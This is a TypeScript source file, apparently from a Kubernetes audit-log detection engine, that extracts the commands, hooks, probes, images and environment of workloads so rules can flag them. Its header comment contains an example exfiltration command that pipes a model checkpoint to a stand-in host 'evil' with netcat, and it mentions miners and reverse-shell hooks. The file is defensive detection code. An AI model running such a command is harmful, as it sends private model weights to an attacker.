/**
 * What a workload created or changed through the API server will run, as rules read it: the
 * `workload.*` event fields. `kubectl run x --image=alpine -- sh -c 'nc evil 4444 < /ckpt/m.pt'`,
 * a Job whose container starts a miner, a Deployment whose postStart hook opens a reverse shell or
 * whose env preloads a library: none of these is an exec, so no `attrs.exec.*` rule reads them, yet
 * the request body says exactly what will run (audit level Request or RequestResponse).
 *
 * Every container of the body's pod specs (pod-specs.ts: Pods, templates, CronJobs, training
 * operators' replicas, KubeRay groups, KServe components, Argo templates) gives:
 *   - its command: `command` then `args` as one argv, as the kubelet runs them (`$(NAME)` expanded
 *     from the container's literal env values, k8s-var-expansion.ts); with no `command`
 *     the image's entrypoint runs `args`, read as an argv of their own, or as a script when they
 *     are `['-c', script]` (the shell entrypoint images use); an Argo script's `source` is read as
 *     its command's `-c` code (`bash -c`, `python -c`);
 *   - its lifecycle hooks' and exec probes' commands (`postStart`, `preStop`, `livenessProbe`,
 *     `readinessProbe`, `startupProbe`: run by the kubelet in the container, again and again);
 *   - its image, and its environment as `NAME=value` (literal values only, expanded: `valueFrom`
 *     names a secret or a field, not a value);
 * and each pod spec the claims its volumes mount (`workload.claim`).
 * A RayJob's `spec.entrypoint` is a command line run on the cluster: one more command.
 * A ConfigMap's or Secret's write gives its scripts as commands and its variable-named keys as
 * `workload.env` (config-data-workload.ts): what the pods that mount it or take their environment
 * from it run.
 *
 * Each command is read as an exec command is (exec-reading-memo.ts `execReading`: the same reading,
 * remembered across events), so the fields are the exec fields over all of them together:
 * `workload.command` as `attrs.exec.command`, and `workload.<name>` for every list field of
 * exec-list-picks.ts (`workload.toolWords`, `workload.socketIo`, `workload.netcatSends`…), plus
 * `workload.image`, `workload.env` and `workload.claim`. An event whose body carries no container has none of them
 * (undefined); one whose containers run nothing they name has empty lists.
 *
 * Bounded: MAX_COMMANDS commands, and MAX_ENV variables and claims per event, each value MAX_ENV_VALUE
 * characters; pod-specs.ts bounds the containers.
 */
import type { EventRecord } from '../../core/records.js';
import { attrOf, attrSlot, derivedOf, derivedSlot } from './event-scope.js';
import { EXEC_LIST_PICKS } from './exec-list-picks.js';
import { derivedValues, execReading, readingsOf, type ExecReading } from './exec-reading-memo.js';
import { configDataWorkload } from './config-data-workload.js';
import { requestBody } from './json-patch-view.js';
import { containersOf, obj, podSpecsOf, type JsonObject } from './pod-specs.js';
import { containerVars, expandVars, expansionBudget, type ExpansionBudget } from './k8s-var-expansion.js';

export const WORKLOAD_PREFIX = 'workload.';

/** Commands read per event, across containers, hooks, probes and an entrypoint. */
export const MAX_COMMANDS = 64;
/** Environment variables kept per event. */
export const MAX_ENV = 1024;
/** Characters of a variable's value kept. */
export const MAX_ENV_VALUE = 4096;

const HOOKS = ['postStart', 'preStop'] as const;
const PROBES = ['livenessProbe', 'readinessProbe', 'startupProbe'] as const;

interface Workload {
  readonly commands: readonly ExecReading[];
  readonly images: readonly string[];
  readonly env: readonly string[];
  readonly claims: readonly string[];
}

const AUDIT = attrSlot('audit');
const WORKLOAD = derivedSlot();

function nonEmptyArray(v: unknown): unknown[] | null {
  return Array.isArray(v) && v.length > 0 ? v : null;
}

/** `$(NAME)` references in a command's or args' strings expanded from the container's variables (k8s-var-expansion.ts). */
function expandWords(words: unknown[] | null, vars: ReadonlyMap<string, string>, budget: ExpansionBudget): unknown[] | null {
  if (words === null || vars.size === 0) return words;
  return words.map((w) => (typeof w === 'string' ? expandVars(w, vars, budget) : w));
}

/**
 * The commands one container runs: its own (see the file comment), its `command` and `args` with
 * `$(NAME)` expanded from `vars` as the kubelet does, then its hooks' and probes' (not expanded).
 */
function containerCommands(c: JsonObject, vars: ReadonlyMap<string, string>, budget: ExpansionBudget, out: Array<string | unknown[]>): void {
  const command = expandWords(nonEmptyArray(c.command), vars, budget);
  const args = expandWords(nonEmptyArray(c.args), vars, budget);
  const source = c.source;
  if (typeof source === 'string') {
    // An Argo script: its source is the code its command runs.
    out.push(command ? [...command, '-c', source] : source);
  } else if (command) {
    out.push(args ? [...command, ...args] : command);
  } else if (args) {
    out.push(args[0] === '-c' && typeof args[1] === 'string' ? args[1] : args);
  }
  const lifecycle = obj(c.lifecycle);
  if (lifecycle) {
    for (const hook of HOOKS) {
      const cmd = nonEmptyArray(obj(obj(lifecycle[hook])?.exec)?.command);
      if (cmd) out.push(cmd);
    }
  }
  for (const probe of PROBES) {
    const cmd = nonEmptyArray(obj(obj(c[probe])?.exec)?.command);
    if (cmd) out.push(cmd);
  }
}

/** `NAME=value` added to `out`, within MAX_ENV variables of MAX_ENV_VALUE characters. */
function keepVariable(out: string[], name: string, value: string): void {
  if (out.length < MAX_ENV) out.push(`${name}=${value.slice(0, MAX_ENV_VALUE)}`);
}

/** The container's variables (k8s-var-expansion.ts), each literal one also written to `out` as `NAME=value`. */
function containerEnv(c: JsonObject, out: string[], budget: ExpansionBudget): ReadonlyMap<string, string> {
  return containerVars(c.env, (name, value) => keepVariable(out, name, value), budget);
}

/** The claim names of the pod specs' persistentVolumeClaim volumes (an Argo workflow's are not read). */
function claimsOf(specs: readonly JsonObject[]): string[] {
  const out: string[] = [];
  for (const spec of specs) {
    const vols = spec.volumes;
    if (!Array.isArray(vols)) continue;
    for (let i = 0; i < vols.length && out.length < MAX_ENV; i++) {
      const claim = obj(obj(vols[i])?.persistentVolumeClaim)?.claimName;
      if (typeof claim === 'string') out.push(claim);
    }
  }
  return out;
}

function readWorkload(e: EventRecord): Workload | null {
  const attrs: unknown = e.attrs;
  if (attrs === null || typeof attrs !== 'object') return null;
  const audit = obj(attrOf(e, AUDIT, 'audit'));
  if (!audit) return null;
  const commands: Array<string | unknown[]> = [];
  const env: string[] = [];
  // A ConfigMap's or Secret's scripts and variables (config-data-workload.ts): what the pods that use it run.
  if (configDataWorkload(audit, commands, (name, value) => keepVariable(env, name, value))) return workload(commands, [], env, []);
  const specs = podSpecsOf(audit);
  const containers = containersOf(audit, specs);
  const entrypoint = obj(requestBody(audit.requestObject)?.spec)?.entrypoint;
  if (containers.length === 0 && typeof entrypoint !== 'string') return null;
  const images: string[] = [];
  if (typeof entrypoint === 'string') commands.push(entrypoint);
  const budget = expansionBudget();
  for (const c of containers) {
    const vars = containerEnv(c, env, budget);
    containerCommands(c, vars, budget, commands);
    if (typeof c.image === 'string') images.push(c.image);
  }
  return workload(commands, images, env, claimsOf(specs));
}

/** A workload of these commands (at most MAX_COMMANDS, each read as an exec command is) and lists. */
function workload(commands: ReadonlyArray<string | unknown[]>, images: string[], env: string[], claims: string[]): Workload {
  const n = Math.min(commands.length, MAX_COMMANDS);
  const readings: ExecReading[] = new Array<ExecReading>(n);
  for (let i = 0; i < n; i++) readings[i] = execReading(commands[i]!);
  return { commands: readings, images, env, claims };
}

/** The event's workload, read once per event however many fields and rules ask. */
function workloadOf(e: EventRecord): Workload | null {
  return derivedOf(e, WORKLOAD, readWorkload);
}

/** `attrs.exec.command`'s values over every command of the workload. */
function commandValues(w: Workload): string[] {
  const out: string[] = [];
  for (const r of w.commands) {
    const v = r.readings;
    if (Array.isArray(v)) {
      for (const x of v) if (typeof x === 'string') out.push(x);
    } else if (typeof v === 'string') out.push(v);
  }
  return out;
}

function listValues(pick: (typeof EXEC_LIST_PICKS)[string]): (w: Workload) => string[] {
  return (w) => {
    const out: string[] = [];
    for (const r of w.commands) if (r.canonical !== null) out.push(...pick(r.canonical));
    return out;
  };
}

/**
 * A field's values: over the whole workload (`all`), or, for the fields read from its commands,
 * from its one command's reading when it has just one (`one`), handed out through the reading
 * memo as the exec fields are (exec-reading-memo.ts), so a rule test on a command met before —
 * the pods a controller makes from one template — answers from its outcome then.
 */
interface View {
  all: (w: Workload) => readonly string[];
  one: ((r: ExecReading) => unknown) | null;
}

const VIEWS: Readonly<Record<string, View>> = {
  command: { all: commandValues, one: readingsOf },
  image: { all: (w) => w.images, one: null },
  env: { all: (w) => w.env, one: null },
  claim: { all: (w) => w.claims, one: null },
  ...Object.fromEntries(Object.entries(EXEC_LIST_PICKS).map(([name, pick]): [string, View] => [
    name,
    { all: listValues(pick), one: (r) => (r.canonical === null ? [] : derivedValues(r, pick(r.canonical))) },
  ])),
};

/** The names below `workload.` that rules may read. */
export const WORKLOAD_FIELDS: readonly string[] = Object.keys(VIEWS);

export interface WorkloadLookup {
  get: (e: EventRecord) => unknown;
  /** True when the field is read from the commands: its tests may be memoized per reading (exec-reading-memo.ts `memoizedTest`). */
  perReading: boolean;
}

/**
 * The getter of `workload.<name>` (undefined on an event without containers; a list over several
 * commands computed once per event), or null for a name that is not a workload field.
 */
export function workloadField(name: string): WorkloadLookup | null {
  const view = Object.hasOwn(VIEWS, name) ? VIEWS[name]! : null;
  if (view === null) return null;
  let get = getters.get(name);
  if (get === undefined) getters.set(name, (get = viewGetter(view)));
  return { get, perReading: view.one !== null };
}

/** One getter per field, shared by every rule that reads it (so one slot, one computation per event). */
const getters = new Map<string, (e: EventRecord) => unknown>();

function viewGetter(view: View): (e: EventRecord) => unknown {
  const slot = derivedSlot();
  const compute = (e: EventRecord): readonly string[] | undefined => {
    const w = workloadOf(e);
    return w === null ? undefined : view.all(w);
  };
  const one = view.one;
  if (one === null) return (e) => derivedOf(e, slot, compute);
  return (e) => {
    const w = workloadOf(e);
    if (w === null) return undefined;
    // Handed out afresh each time: the memo answers for the reading handed out last.
    return w.commands.length === 1 ? one(w.commands[0]!) : derivedOf(e, slot, compute);
  };
}
